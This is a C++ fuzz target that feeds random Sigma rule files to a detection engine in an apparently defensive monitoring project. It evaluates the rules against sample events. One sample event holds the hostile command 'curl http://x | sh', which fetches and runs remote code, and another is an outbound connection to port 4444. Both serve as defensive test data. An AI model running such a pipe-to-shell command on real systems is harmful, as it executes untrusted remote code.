// Fuzz target: Sigma rule files (YAML, detection, condition, correlation) compiled and
// evaluated on a few events. Never crashes, hangs or leaks; bad rules are reported.
#include <cstddef>
#include <cstdint>
#include <string>

#include "aggregator/rules/sigma.h"

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  if (size > 65536) return 0;
  using namespace tripline;
  auto set =
      rules::CompileRules({{"fuzz.yml", std::string(reinterpret_cast<const char*>(data), size)}});
  rules::RuleEngine engine;
  engine.Swap(set);
  Event e;
  e.host = "h";
  e.time_ns = 1;
  ExecEvent x;
  x.filename = "/bin/sh";
  x.argv = {"sh", "-c", "curl http://x | sh"};
  e.body = x;
  engine.Evaluate(e);
  e.body = NetConnectEvent{NetDirection::kOutbound, "10.0.0.1", 1, "10.0.0.2", 4444, 2, 6};
  engine.Evaluate(e);
  return 0;
}
